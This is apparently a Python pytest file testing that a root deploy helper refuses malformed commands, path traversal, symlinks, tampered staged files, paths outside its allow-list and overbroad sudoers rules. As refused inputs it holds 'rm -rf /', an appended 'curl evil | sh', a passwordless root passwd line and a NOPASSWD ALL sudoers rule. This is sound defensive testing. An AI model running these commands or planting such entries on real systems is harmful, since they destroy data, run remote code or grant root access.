"""The helper's command line: refusals (exit 2, one JSON object, no traceback) and the staged
files' checks, all made before anything on the host is touched."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from appliance.deploy import helper, revisions
from appliance.render.layout import paths_under

from .fakes import call_helper as run
from .fakes import helper_layout

pytestmark = pytest.mark.unit


@pytest.fixture
def host(tmp_path, monkeypatch):
    paths = paths_under(tmp_path / "root")
    helper_layout(tmp_path / "layout.json", paths, monkeypatch)
    return paths


def record(content: str, mode: int = 0o644, secret: bool = False, check: str = "") -> dict:
    return {"content": content, "mode": mode, "owner": "root", "group": "root",
            "secret": secret, "check": check}


def stage(paths, number=1, files=None) -> str:
    files = files or {f"{paths.initd_dir}/caddy": record("#!/bin/sh\n", 0o755, check="sh")}
    return revisions.write_staging(paths.data_dir, number, files)


def refused(capsys, *argv) -> str:
    code, answer = run(capsys, *argv)
    assert (code, answer["ok"], answer.get("refused")) == (2, False, True), answer
    return answer["message"]


@pytest.mark.parametrize("argv", [
    (), ("rm", "-rf", "/"), ("install",), ("install", "a", "b"), ("restore", "x"),
    ("restore", "0"), ("restore", "../1"), ("service", "start"), ("service", "start", "sshd"),
    ("service", "kill", "caddy"), ("service", "start", "alexa-skill-my skill"),
    ("service", "start", "alexa-skill-a\nb"), ("service", "start", "alexa-skill-{a}"),
    ("daemon-reload", "now"), ("reload-caddy", "--force"), ("logs",), ("logs", "sshd"),
    ("logs", "caddy", "--lines"), ("logs", "caddy", "--lines", "2001"),
    ("logs", "caddy", "--lines", "0"), ("logs", "caddy", "-n", "5"), ("--help",),
])
def test_refused_command_lines(capsys, host, argv):
    assert refused(capsys, *argv)


def test_unknown_command_says_what_is_known(capsys, host):
    message = refused(capsys, "shell")
    assert "unknown command 'shell'" in message and "install STAGING_DIR" in message


def test_only_a_direct_root_call_may_name_another_layout(monkeypatch):
    monkeypatch.setenv("APPLIANCE_LAYOUT", "/tmp/elsewhere.json")
    monkeypatch.delenv("SUDO_USER", raising=False)
    monkeypatch.delenv("SUDO_UID", raising=False)
    assert helper.layout_path() == "/tmp/elsewhere.json"
    monkeypatch.setenv("SUDO_USER", "appliance")
    assert helper.layout_path() == "/etc/appliance/layout.json"


def test_an_unexpected_error_is_words_on_stdout(capsys, monkeypatch):
    def boom(argv):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(helper, "dispatch", boom)
    code, answer = run(capsys, "daemon-reload")
    assert code == 1 and answer == {"ok": False,
                                    "message": "internal error: RuntimeError: disk on fire"}


def test_staging_dir_must_be_a_numbered_child_of_staging(capsys, host, tmp_path):
    good = stage(host)
    elsewhere = tmp_path / "elsewhere" / "1"
    elsewhere.mkdir(parents=True)
    assert "not a directory directly under" in refused(capsys, "install", str(elsewhere))
    assert "not a directory directly under" in refused(capsys, "install", "/etc")
    assert "not a directory directly under" in refused(capsys, "install", good + "/files")
    assert "not a directory directly under" in refused(
        capsys, "install", f"{host.data_dir}/staging/1/../../staging2/1")
    named = os.path.join(host.data_dir, "staging", "next")
    os.rename(good, named)
    assert "not a revision number" in refused(capsys, "install", named)


def test_a_symlinked_staging_dir_is_refused(capsys, host, tmp_path):
    target = tmp_path / "outside" / "7"
    target.mkdir(parents=True)
    os.makedirs(f"{host.data_dir}/staging", exist_ok=True)
    link = f"{host.data_dir}/staging/7"
    os.symlink(target, link)
    assert "symbolic link" in refused(capsys, "install", link)


def test_manifest_paths_outside_the_allow_list_are_refused(capsys, host):
    staged = stage(host, files={"/etc/passwd": record("root::0:0::/:/bin/sh\n")})
    message = refused(capsys, "install", staged)
    assert "outside the allow-list: /etc/passwd" in message
    assert not os.path.exists(f"{host.data_dir}/backups")


def test_a_file_that_does_not_match_its_sha256_is_refused(capsys, host):
    staged = stage(host)
    with open(f"{staged}/files{host.initd_dir}/caddy", "a") as handle:
        handle.write("curl evil | sh\n")
    assert "does not match its sha256" in refused(capsys, "install", staged)


def test_a_staged_symlink_is_refused(capsys, host, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("#!/bin/sh\n")
    staged = stage(host)
    staged_file = f"{staged}/files{host.initd_dir}/caddy"
    os.unlink(staged_file)
    os.symlink(secret, staged_file)
    assert "missing or unsafe" in refused(capsys, "install", staged)


def test_a_symlinked_folder_inside_staging_is_refused(capsys, host, tmp_path):
    staged = stage(host)
    real = f"{staged}/files{host.initd_dir}"
    os.rename(real, tmp_path / "moved")
    os.symlink(tmp_path / "moved", real)
    assert "missing or unsafe" in refused(capsys, "install", staged)


def test_bad_manifests_are_refused(capsys, host):
    staged = stage(host)
    manifest = f"{staged}/manifest.json"
    entries = json.loads(Path(manifest).read_text())
    for bad, words in ((entries * 2, "appears twice"), ({"path": "/x"}, "must be a list"),
                       ([{**entries[0], "mode": 0o4755}], "mode"), ("not json", "unreadable")):
        with open(manifest, "w") as handle:
            handle.write(bad if isinstance(bad, str) else json.dumps(bad))
        assert words in refused(capsys, "install", staged)


def test_a_sudoers_file_granting_more_is_refused(capsys, host):
    rule = "appliance ALL=(ALL) NOPASSWD: ALL\n"
    staged = stage(host, files={host.sudoers: record(rule, 0o440)})
    assert "only rules running" in refused(capsys, "install", staged)
